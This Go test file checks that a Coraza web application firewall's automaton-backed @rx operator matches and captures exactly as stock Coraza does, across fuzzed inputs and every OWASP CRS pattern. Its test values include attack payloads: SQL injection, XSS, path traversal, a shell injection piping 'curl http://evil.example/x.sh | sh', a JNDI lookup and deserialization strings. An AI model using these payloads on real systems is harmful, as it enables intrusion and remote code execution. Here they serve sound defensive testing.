package rules

import (
	"io/fs"
	"regexp"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// capturing is a transaction that only takes captures.
type capturing struct {
	plugintypes.TransactionState
	on     bool
	groups []string
}

func (c *capturing) Capturing() bool { return c.on }
func (c *capturing) CaptureField(i int, text string) {
	for len(c.groups) <= i {
		c.groups = append(c.groups, "unset")
	}
	c.groups[i] = text
}

// stockEvaluate is what Coraza 3.8.1 does with an @rx (internal/operators/rx.go).
func stockEvaluate(re stockExpression, tx *capturing, value string) bool {
	if !tx.on {
		return re.MatchString(value)
	}
	groups := re.FindStringSubmatchIndex(value)
	for i := range min(len(groups)/2, 9) {
		if groups[2*i] < 0 {
			tx.CaptureField(i, "")
		} else {
			tx.CaptureField(i, value[groups[2*i]:groups[2*i+1]])
		}
	}
	return groups != nil
}

// newTestExpression is an operator whose automaton is built at the first question.
func newTestExpression(t testing.TB, pattern string) *expression {
	op, err := newExpression(plugintypes.OperatorOptions{Arguments: pattern})
	require.NoError(t, err)
	e := op.(*expression)
	e.asked.Store(worthAutomaton - 1)
	return e
}

func agreesWithStock(t testing.TB, e *expression, value string) {
	for _, on := range []bool{false, true} {
		want, got := &capturing{on: on}, &capturing{on: on}
		matched := stockEvaluate(e.re, want, value)
		if e.Evaluate(got, value) != matched || !assert.ObjectsAreEqual(want.groups, got.groups) {
			t.Errorf("%q on %q: stock %v %q, ours captures %q", e.pattern, value, matched, want.groups, got.groups)
		}
	}
}

func FuzzRxAgainstStock(f *testing.F) {
	for pattern, value := range map[string]string{
		`(?i)select\s+(\w+)\s+from`: "x SELECT  a\nfrom b", `^(a)|(b)$`: "c\nb", `(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)`: "abcdefghij",
		`\xac\xed`: "\xac\xed", `(\xff+)(a)?`: "x\xff\xffa", `.`: "", `(?i)k`: "\u212a", `[^a]\b`: "a\xffa", `\x{1F600}`: "\xf0", `$`: "a",
	} {
		f.Add(pattern, value)
	}
	f.Fuzz(func(t *testing.T, pattern, value string) {
		if len(pattern) > 100 || len(value) > 2000 {
			return
		}
		op, err := newExpression(plugintypes.OperatorOptions{Arguments: pattern})
		if err != nil {
			return
		}
		e := op.(*expression)
		agreesWithStock(t, e, value) // by the regular expression alone
		e.asked.Store(worthAutomaton - 1)
		agreesWithStock(t, e, value+"x")
		if value != "" && e.automaton.Load() == nil {
			t.Fatalf("%q has no automaton", pattern)
		}
		agreesWithStock(t, e, value)
	})
}

var rxArgument = regexp.MustCompile(`"!?@rx ((?:\\.|[^"\\])*)"`)

// crsExpressions are CRS's patterns, in their rules' words.
func crsExpressions(t testing.TB) (patterns []string) {
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	require.NoError(t, err)
	for _, name := range files {
		text, err := fs.ReadFile(coreruleset.FS, name)
		require.NoError(t, err)
		for _, m := range rxArgument.FindAllStringSubmatch(strings.ReplaceAll(string(text), "\\\n", " "), -1) {
			patterns = append(patterns, strings.ReplaceAll(m[1], `\"`, `"`))
		}
	}
	require.Greater(t, len(patterns), 250)
	return patterns
}

var rxValues = []string{"", "a", "shop.example.com", "1' OR '1'='1' -- -", "1 UNION ALL SELECT username, password FROM users WHERE id=1;#",
	"<script>alert(document.cookie)</script>", "../../../../etc/passwd%00", ";cat /etc/passwd|wc -l && curl http://evil.example/x.sh | sh",
	"${jndi:ldap://evil.example/a} {{7*7}}", "O:8:\"stdClass\":1:{s:3:\"foo\";s:3:\"bar\";} php://filter/resource=index.php",
	"java.lang.Runtime.getRuntime().exec(\"id\") rO0ABXNy", "\xac\xed\x00\x05 \xbcscript\xbe", "(|(uid=*)(objectClass=*))",
	"multipart/form-data; boundary=x", "bytes=0-10, 20-30", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "PHPSESSID=abc; Set-Cookie: a=b",
	"javascript:alert(1) onerror=x style=expression(a)", "_$$ND_FUNC$$_function(){require('child_process')}() __proto__[constructor]"}

func TestRxMatchesAndCapturesAsCorazaForEveryPatternOfCRS(t *testing.T) {
	for _, pattern := range crsExpressions(t) {
		e := newTestExpression(t, pattern)
		for _, value := range rxValues {
			agreesWithStock(t, e, value)
		}
		require.NotNil(t, e.automaton.Load(), "%q", pattern)
	}
}

// The automaton gives up on values that need more states than they pay for; then the
// regular expression alone decides.
func TestRxIsRightWhereTheAutomatonGivesUp(t *testing.T) {
	e := newTestExpression(t, `[ab]*a[ab]{16}c`)
	values := make([]string, 200)
	seed := uint32(1)
	for i := range values {
		text := make([]byte, 400)
		for j := range text {
			seed = seed*1664525 + 1013904223
			text[j] = 'a' + byte(seed>>31)
		}
		values[i] = string(text)
	}
	gaveUp := false
	for _, v := range values {
		agreesWithStock(t, e, v)
		agreesWithStock(t, e, v+"c")
		_, certain := e.ask(v)
		gaveUp = gaveUp || !certain
	}
	assert.True(t, gaveUp, "the pattern is too easy")
}

func TestRxBuildsNoAutomatonForPatternsThatAreHardlyAsked(t *testing.T) {
	op, err := newExpression(plugintypes.OperatorOptions{Arguments: "a+b"})
	require.NoError(t, err)
	e := op.(*expression)
	agreesWithStock(t, e, "aab")
	assert.Nil(t, e.automaton.Load())
	agreesWithStock(t, e, strings.Repeat("a", worthAutomaton))
	assert.NotNil(t, e.automaton.Load())
}

func TestABadPatternOfRxIsRefused(t *testing.T) {
	for _, pattern := range []string{"(", `(\xff`} {
		_, err := newExpression(plugintypes.OperatorOptions{Arguments: pattern})
		assert.ErrorContains(t, err, "missing closing )", pattern)
	}
}

// Run with -race: many transactions ask one pattern while its automaton is built.
func TestRxIsAskedByManyAtOnce(t *testing.T) {
	op, err := newExpression(plugintypes.OperatorOptions{Arguments: `(?i)union\s+(all)?\s*select`})
	require.NoError(t, err)
	e := op.(*expression)
	var asking sync.WaitGroup
	for range 8 {
		asking.Go(func() {
			for range 300 {
				for _, v := range rxValues {
					agreesWithStock(t, e, v)
				}
			}
		})
	}
	asking.Wait()
	assert.NotNil(t, e.automaton.Load())
}
